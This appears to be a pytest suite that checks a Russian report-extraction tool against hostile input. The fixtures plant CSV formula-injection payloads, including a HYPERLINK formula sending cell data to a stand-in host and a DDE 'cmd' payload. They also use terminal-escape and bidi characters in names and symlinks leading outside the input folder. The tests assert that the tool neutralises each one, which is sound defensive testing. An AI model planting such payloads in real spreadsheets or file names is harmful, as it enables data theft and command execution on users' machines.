"""Hostile input: what a folder, a file name or a report can do to the outputs, the
terminal and the run (formula injection, links out of the folder, terminal escapes and
markup in names, a bad --out, interrupts). Every case runs the real command on real
files built here, and the run goes on with the other files in each."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from extractor.export import escape_cell, unescape_cell
from tests.conftest import CORPUS
from tests.test_cli import ANSI, moc

# What a spreadsheet evaluates when a cell starts with it (OWASP, and full-width forms).
FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2&C2,"Реализовано 212 программ")'
ESC_NAME = "\x1b]0;pwned\x07title.txt"


def _report(extra: str) -> str:
    """A small report of our own with a line an attacker put in."""
    return (
        "Отчёт муниципального опорного центра Сальского района Ростовской области "
        "за 2024 год.\n\n"
        f"{extra}\n\n"
        "В 2024 году реализовывались 212 дополнительных общеобразовательных программ, "
        "по которым обучались 9 870 детей.\n"
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "reports"
    folder.mkdir()
    (folder / "hyperlink.txt").write_text(_report(HYPERLINK), encoding="utf-8")
    (folder / "=cmd.txt").write_text(_report("+cmd|' /C calc'!A0 программ 5"), encoding="utf-8")
    (folder / "-2+3.txt").write_text(_report("@SUM(1+1)*cmd 12 программ"), encoding="utf-8")
    (folder / "[old] отчёт.txt").write_text(_report("Обычная строка."), encoding="utf-8")
    (folder / "[").mkdir()  # the path «[/bold].txt» reads as a closing tag to rich
    (folder / "[" / "bold].txt").write_text(_report("Ещё строка."), encoding="utf-8")
    (folder / ESC_NAME).write_text(_report("Строка."), encoding="utf-8")
    (folder / "broken.docx").write_bytes(b"not a zip")  # a warning with a file name
    secret = root / "secret.txt"
    secret.write_text(_report("СЕКРЕТНАЯ СТРОКА 777 программ"), encoding="utf-8")
    (folder / "passwd.txt").symlink_to(secret)
    outside_dir = root / "elsewhere"
    outside_dir.mkdir()
    (outside_dir / "far.txt").write_text(_report("ДАЛЁКАЯ СТРОКА"), encoding="utf-8")
    (folder / "linked").symlink_to(outside_dir, target_is_directory=True)
    inside = folder / "inside.txt"
    inside.write_text(_report("Ссылка внутри папки."), encoding="utf-8")
    (folder / "alias.txt").symlink_to(inside)  # a link that stays inside is read
    return {"root": root, "folder": folder}


@pytest.fixture(scope="module")
def plain_run(hostile: dict[str, Path]) -> tuple[Path, subprocess.CompletedProcess[str]]:
    out = hostile["root"] / "out-plain"
    return out, moc("run", str(hostile["folder"]), "--out", str(out), "--jobs", "1")


@pytest.fixture(scope="module")
def excel_run(hostile: dict[str, Path]) -> tuple[Path, subprocess.CompletedProcess[str]]:
    out = hostile["root"] / "out-excel"
    return out, moc("run", str(hostile["folder"]), "--out", str(out), "--excel", "--jobs", "1")


def _cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [c for row in csv.reader(text.splitlines(True), delimiter=delimiter) for c in row]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _evaluated(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell? Plain numbers are values, not formulas."""
    try:
        float(cell.replace(",", "."))
        return False
    except ValueError:
        return cell.lstrip(" \u00a0").startswith(FORMULA_START)


# ---------------------------------------------------------------------------------------
# 1. Formula injection


@pytest.mark.parametrize("which", ["plain_run", "excel_run"])
def test_no_csv_cell_is_a_formula(which: str, request: pytest.FixtureRequest) -> None:
    out, result = request.getfixturevalue(which)
    assert result.returncode == 3, result.stdout + result.stderr  # broken.docx
    csvs = sorted(out.glob("*.csv"))
    assert {p.name for p in csvs} >= {"reports.csv", "figures.csv", "warnings.csv"}
    cells = [c for p in csvs for c in _cells(p)]
    assert [c for c in cells if _evaluated(c)] == []
    # the hostile texts are there, as text: the check above had something to catch
    assert "'=cmd.txt" in cells and "'-2+3.txt" in cells
    assert any(c.startswith("'" + HYPERLINK) for c in cells)
    # numbers stay numbers
    assert "212" in cells and "9870" in cells


def test_escape_is_undone_exactly() -> None:
    for text in ("=1+1", "'=1+1", "''", "-", "-3", "-3,5", " =x", "\tx", "обычный", "'"):
        assert unescape_cell(str(escape_cell(text))) == text
    assert escape_cell("-3") == "-3" and escape_cell("16,7") == "16,7"
    assert escape_cell("-3 программы") == "'-3 программы"


def test_workbook_has_no_formula_cells(plain_run: tuple[Path, object]) -> None:
    from openpyxl import load_workbook

    out, _ = plain_run
    wb = load_workbook(out / "consolidated.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value}"
                values.append(cell.value)
    assert "=cmd.txt" in values  # the name is there, as a string


# ---------------------------------------------------------------------------------------
# 3. Links out of the folder


def test_links_out_of_the_folder_are_not_read(
    plain_run: tuple[Path, subprocess.CompletedProcess[str]],
) -> None:
    out, result = plain_run
    documents = (out / "documents.jsonl").read_text(encoding="utf-8")
    assert "СЕКРЕТНАЯ" not in documents and "ДАЛЁКАЯ" not in documents
    assert "Ссылка внутри папки" in documents  # the same file, read twice by two names
    warnings = {(r["file"], r["code"]) for r in _rows(out / "warnings.csv")}
    assert ("passwd.txt", "discover.outside_link") in warnings
    assert ("linked", "discover.outside_link") in warnings
    assert "passwd.txt" in result.stdout and "--follow-links" in result.stdout


def test_follow_links_reads_them(hostile: dict[str, Path], tmp_path: Path) -> None:
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "passwd.txt").symlink_to(hostile["root"] / "secret.txt")
    result = moc("run", str(folder), "--out", str(tmp_path / "out"), "--follow-links")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "СЕКРЕТНАЯ" in (tmp_path / "out" / "documents.jsonl").read_text(encoding="utf-8")


def test_corrections_file_linked_from_outside_is_not_read(tmp_path: Path) -> None:
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "salsk.txt").write_text(_report(""), encoding="utf-8")
    outside = tmp_path / "corrections.csv"
    outside.write_text("file,key,value\nsalsk.txt,programs_total,1\n", encoding="utf-8")
    (folder / "corrections.csv").symlink_to(outside)
    out = tmp_path / "out"
    result = moc("run", str(folder), "--out", str(out))
    assert result.returncode == 0, result.stdout + result.stderr
    rows = _rows(out / "reports.csv")
    assert rows[0]["programs_total"] == "212" and rows[0]["corrected"] == ""
    assert "discover.outside_link" in (out / "warnings.csv").read_text(encoding="utf-8")


# ---------------------------------------------------------------------------------------
# 4. Names in the terminal


def test_names_reach_a_log_as_text(
    plain_run: tuple[Path, subprocess.CompletedProcess[str]],
) -> None:
    _, result = plain_run
    assert "\x1b" not in result.stdout + result.stderr
    assert "\\x1b]0;pwned\\x07title.txt" in result.stdout  # shown, as codes
    assert "[old] отчёт.txt" in result.stdout and "[/bold].txt" in result.stdout


def _terminal(*args: str) -> subprocess.CompletedProcess[str]:
    """The command as on a colour terminal 80 columns wide (rich's tables and panels)."""
    env = {**os.environ, "FORCE_COLOR": "1", "COLUMNS": "80", "LINES": "10000", "TERM": "xterm"}
    return subprocess.run(
        [sys.executable, "-m", "extractor", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
    )


def _visible(text: str) -> str:
    """Terminal output without rich's colour codes and box lines, words joined."""
    import re

    text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    return " ".join(re.sub(r"[│╭╮╰╯─┃━┏┓┗┛]", " ", text).split())


def test_names_in_rich_tables_and_panels(hostile: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = _terminal("run", str(hostile["folder"]), "--out", str(out), "--jobs", "1")
    assert result.returncode == 3, result.stdout + result.stderr
    assert "MarkupError" not in result.stderr
    assert "\x1b]0;pwned" not in result.stdout  # the name's escape never reaches the screen
    review = _terminal("review", str(out), "--no-pager")
    assert review.returncode == 0, review.stdout + review.stderr
    for text in (result.stdout, review.stdout):
        assert "\x1b]0;pwned" not in text
        shown = _visible(text)
        assert "[/bold].txt" in shown and "\\x1b]0;pwned\\x07title.txt" in shown
    assert "[old] отчёт.txt" in _visible(review.stdout)


# ---------------------------------------------------------------------------------------
# 5, 11. review: both dialects, messages wrapped, never cut


def test_review_reads_the_excel_dialect(
    excel_run: tuple[Path, subprocess.CompletedProcess[str]],
) -> None:
    out, _ = excel_run
    result = moc("review", str(out), "--plain")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "docx.not_zip" in result.stdout and "== broken.docx" in result.stdout


def test_review_wraps_long_messages_at_80_columns(tmp_path: Path) -> None:
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "conflict.txt").write_text(
        _report("В 2024 году реализовывались 230 дополнительных общеобразовательных программ."),
        encoding="utf-8",
    )
    out = tmp_path / "out"
    moc("run", str(folder), "--out", str(out))
    message = next(
        r["message"] for r in _rows(out / "warnings.csv") if r["code"] == "figure.conflict"
    )
    result = _terminal("review", str(out), "--no-pager")
    assert result.returncode == 0, result.stderr
    assert max(len(ln) for ln in ANSI_LINES(result.stdout)) <= 80
    assert " ".join(message.split()) in _visible(result.stdout)  # all of it, to the end


def test_review_pages_through_the_pager_when_asked(
    plain_run: tuple[Path, object], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal, --pager sends the panels through rich's pager; without it, panels
    that fit the screen are printed as they are. (A subprocess has no terminal, so the
    pager is watched in-process.)"""
    from rich.console import Console

    from extractor.review import load, print_review, select

    out, _ = plain_run
    paged: list[bool] = []
    real_pager = Console.pager

    def pager(self: Console, *args: object, **kwargs: object) -> object:
        paged.append(True)
        return real_pager(self, *args, **kwargs)

    monkeypatch.setattr(Console, "pager", pager)
    monkeypatch.setenv("PAGER", "cat")
    groups = select(load(out))
    with open(os.devnull, "w") as sink:
        console = Console(force_terminal=True, width=80, height=10_000, file=sink)
        print_review(console, groups, plain=False, pager=None)
        assert paged == []  # fits the (tall) screen
        print_review(console, groups, plain=False, pager=True)
        assert paged == [True]


def ANSI_LINES(text: str) -> list[str]:
    import re

    return [re.sub(r"\x1b\[[0-9;]*m", "", ln) for ln in text.splitlines()]


# ---------------------------------------------------------------------------------------
# 7, 13. --out checked before anything is read


def _report_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "salsk.txt").write_text(_report(""), encoding="utf-8")
    return folder


def test_out_that_is_a_file_is_refused_before_reading(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    target = tmp_path / "out.csv"
    target.write_text("mine", encoding="utf-8")
    result = moc("run", str(folder), "--out", str(target))
    assert result.returncode == 2
    assert "не на папку" in result.stdout and "salsk.txt" not in result.stdout
    assert "Traceback" not in result.stderr and target.read_text(encoding="utf-8") == "mine"


def test_out_that_cannot_be_written_is_refused(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    # under a file: no folder can be made there, whoever runs the test (root too)
    (tmp_path / "plain").write_text("", encoding="utf-8")
    result = moc("run", str(folder), "--out", str(tmp_path / "plain" / "out"))
    assert result.returncode == 2
    assert "нельзя писать" in result.stdout and "Traceback" not in result.stderr


def test_users_own_files_are_not_overwritten_without_force(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    out = tmp_path / "mine"
    out.mkdir()
    (out / "reports.csv").write_text("my own table", encoding="utf-8")
    result = moc("run", str(folder), "--out", str(out))
    assert result.returncode == 2 and "--force" in result.stdout
    assert (out / "reports.csv").read_text(encoding="utf-8") == "my own table"
    forced = moc("run", str(folder), "--out", str(out), "--force")
    assert forced.returncode == 0, forced.stdout + forced.stderr
    assert (out / "reports.csv").read_text(encoding="utf-8").startswith("file,municipality")
    # the tool's own outputs: a second run needs no --force
    again = moc("run", str(folder), "--out", str(out))
    assert again.returncode == 0, again.stdout + again.stderr


def test_leftover_temporary_files_are_removed(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    out = tmp_path / "out"
    assert moc("run", str(folder), "--out", str(out)).returncode == 0
    leftover = out / ".reports.csv.abc123.tmp"
    leftover.write_text("half", encoding="utf-8")
    stranger = out / ".someone-else.tmp"
    stranger.write_text("not ours", encoding="utf-8")
    cache_leftover = next(p for p in (out / ".cache").iterdir() if p.is_dir()) / ".entry.x.tmp"
    cache_leftover.write_text("half", encoding="utf-8")
    assert moc("run", str(folder), "--out", str(out)).returncode == 0
    assert not leftover.exists() and not cache_leftover.exists() and stranger.exists()


def test_output_folder_inside_the_input_is_not_read(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    out = folder / "out"
    assert moc("run", str(folder), "--out", str(out)).returncode == 0
    second = moc("run", str(folder), "--out", str(out))
    assert second.returncode == 0
    rows = _rows(out / "warnings.csv")
    assert [r["code"] for r in rows if r["file"].startswith("out")] == ["discover.output_dir"]


# ---------------------------------------------------------------------------------------
# 12. Ctrl-C


def test_interrupt_keeps_previous_outputs_and_says_so(tmp_path: Path) -> None:
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(12):
        (folder / f"r{i:02}.docx").write_bytes((CORPUS / "kolomna_2024.docx").read_bytes())
    out = tmp_path / "out"
    first = moc("run", str(_report_folder(tmp_path)), "--out", str(out))
    assert first.returncode == 0
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "TERM")}
    proc = subprocess.Popen(
        [sys.executable, "-m", "extractor", "run", str(folder), "--out", str(out), "-j", "1"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    assert proc.stdout is not None
    proc.stdout.readline()  # the first file is done: the run is under way
    proc.send_signal(signal.SIGINT)
    stdout, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 130, stdout + stderr
    assert "Прервано; прежние результаты" in stdout and "Traceback" not in stderr
    after = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert after == before


# ---------------------------------------------------------------------------------------
# 14. Long lists in pipes


def test_piped_summary_is_capped(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    lines = ["file,key,value"] + [f"salsk.txt,no_such_key_{i},1" for i in range(300)]
    (folder / "corrections.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = moc("run", str(folder), "--out", str(out))
    assert not ANSI.search(result.stdout)
    problem_lines = [ln for ln in result.stdout.splitlines() if "\tcorrection." in ln]
    assert 0 < len(problem_lines) <= 50
    assert "… и ещё замечаний" in result.stdout and "warnings.csv" in result.stdout
    rows = _rows(out / "warnings.csv")
    assert sum(r["code"] == "correction.unknown_key" for r in rows) == 300  # all kept


# ---------------------------------------------------------------------------------------
# 10. Exit statuses, one case each (README «Exit statuses»)


def test_exit_status_0_2_3_4(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    assert moc("run", str(folder), "--out", str(tmp_path / "o0")).returncode == 0
    assert moc("run", str(tmp_path / "missing"), "--out", str(tmp_path / "o2")).returncode == 2
    (folder / "corrections.csv").write_text(
        "file,key,value\nsalsk.txt,programs_total,много\n", encoding="utf-8"
    )
    assert moc("run", str(folder), "--out", str(tmp_path / "o4")).returncode == 4
    (folder / "broken.docx").write_bytes(b"not a zip")
    assert moc("run", str(folder), "--out", str(tmp_path / "o3")).returncode == 3


def test_exit_status_1_on_a_bug(tmp_path: Path) -> None:
    probe = (
        "import sys\n"
        "import extractor.pipeline\n"
        "from extractor.cli import main\n"
        "def broken(*args, **kwargs):\n"
        "    raise RuntimeError('a bug')\n"
        "extractor.pipeline.run = broken\n"
        "main(sys.argv[1:])\n"
    )
    folder = str(_report_folder(tmp_path))
    result = subprocess.run(
        [sys.executable, "-c", probe, "run", folder, "--out", str(tmp_path / "o")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    # The traceback for the bug report, then what to do in the user's language.
    assert "RuntimeError: a bug" in result.stderr
    assert "Внутренняя ошибка программы" in result.stderr.splitlines()[-1]


def test_value_errors_do_not_make_status_3(tmp_path: Path) -> None:
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "pct.txt").write_text(
        _report("Охват детей в возрасте от 5 до 18 лет составил 140 %."), encoding="utf-8"
    )
    out = tmp_path / "out"
    result = moc("run", str(folder), "--out", str(out))
    problems = json.loads((out / "reports.jsonl").read_text(encoding="utf-8"))["problems"]
    assert ("error", "value.out_of_range") in {(p["severity"], p["code"]) for p in problems}
    assert result.returncode == 0, result.stdout


# ---------------------------------------------------------------------------------------
# What a review of this suite found


def test_a_loop_of_links_is_one_unreadable_file(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    (folder / "loop.txt").symlink_to(folder / "loop.txt")
    (folder / "a.txt").symlink_to(folder / "b.txt")
    (folder / "b.txt").symlink_to(folder / "a.txt")
    out = tmp_path / "out"
    result = moc("run", str(folder), "--out", str(out))
    assert result.returncode == 3, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    rows = {r["file"]: r["code"] for r in _rows(out / "warnings.csv") if r["severity"] == "error"}
    assert set(rows) == {"loop.txt", "a.txt", "b.txt"}
    assert [r["file"] for r in _rows(out / "reports.csv")] == ["salsk.txt"]


def test_a_foreign_cache_folder_is_left_alone(tmp_path: Path) -> None:
    """--out at a folder whose .cache is someone else's (a home folder): nothing of it is
    deleted, even what looks like a temporary file."""
    folder = _report_folder(tmp_path)
    out = tmp_path / "home"
    theirs = out / ".cache" / "otherapp"
    theirs.mkdir(parents=True)
    (theirs / ".state.json.abc.tmp").write_text("theirs", encoding="utf-8")
    (theirs / ".entry.abc.tmp").write_text("theirs too", encoding="utf-8")
    assert moc("run", str(folder), "--out", str(out)).returncode == 0
    assert (theirs / ".state.json.abc.tmp").exists() and (theirs / ".entry.abc.tmp").exists()


def test_keys_and_codes_from_the_input_are_shown_as_text(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    (folder / "corrections.csv").write_text(
        "file,key,value\nsalsk.txt,evil\u009b2Jkey\u202e,1\n", encoding="utf-8"
    )
    out = tmp_path / "out"
    result = moc("run", str(folder), "--out", str(out))
    assert result.returncode == 4
    review = moc("review", str(out), "--plain")
    for text in (result.stdout, review.stdout):
        assert "\u009b" not in text and "\u202e" not in text
        assert "evil\\x9b2Jkey\\u202e" in text


def test_eval_names_a_bad_gold_file_and_reads_no_gold_outside(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    (folder / "salsk.gold.json").write_text("{не json", encoding="utf-8")
    shutil.copy(CORPUS / "txt_salsk_2024.txt", folder / "other.txt")
    outside = tmp_path / "secret.gold.json"
    outside.write_text('{"figures": {}}', encoding="utf-8")
    (folder / "other.gold.json").symlink_to(outside)
    result = moc("eval", str(folder))
    assert "Traceback" not in result.stderr
    assert result.returncode == 2, result.stdout  # no document could be scored
    assert "salsk.txt: не прочитан (файл эталона salsk.gold.json не прочитан" in result.stdout
    assert "other.txt: не прочитан (файл эталона — ссылка за пределы папки)" in result.stdout


def test_eval_names_a_gold_file_whose_document_it_cannot_read(tmp_path: Path) -> None:
    """Round 22: a report saved in a format the run passes over (here a scan as .jpg)
    was left out of the score in silence; its gold figures are a document lost."""
    folder = _report_folder(tmp_path)
    (folder / "scan.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really a photo")
    gold = '{"municipality": null, "region": null, "year": 2024, "figures": {}}'
    (folder / "scan.gold.json").write_text(gold, encoding="utf-8")
    (folder / "salsk.gold.json").write_text(gold, encoding="utf-8")
    result = moc("eval", str(folder))
    assert "Traceback" not in result.stderr
    assert result.returncode == 3, result.stdout  # scored, but a document was lost
    assert "scan.jpg: не прочитан (формат .jpg не поддерживается" in result.stdout


def test_review_of_a_resaved_warnings_file_says_what_is_wrong(tmp_path: Path) -> None:
    folder = _report_folder(tmp_path)
    out = tmp_path / "out"
    assert moc("run", str(folder), "--out", str(out)).returncode == 0
    text = (out / "warnings.csv").read_text(encoding="utf-8")
    (out / "warnings.csv").write_bytes(text.encode("cp1251", errors="replace"))
    result = moc("review", str(out))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "не в кодировке UTF-8" in result.stdout
    (out / "warnings.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    result = moc("review", str(out))
    assert result.returncode == 2 and "нет столбцов" in result.stdout


def test_a_reader_leaving_the_pipe_early_is_status_141(plain_run: tuple[Path, object]) -> None:
    out, _ = plain_run
    proc = subprocess.Popen(
        [sys.executable, "-m", "extractor", "review", str(out), "--plain"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None
    proc.stdout.close()  # the reader is gone before the first line
    _, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 141 and b"Traceback" not in stderr
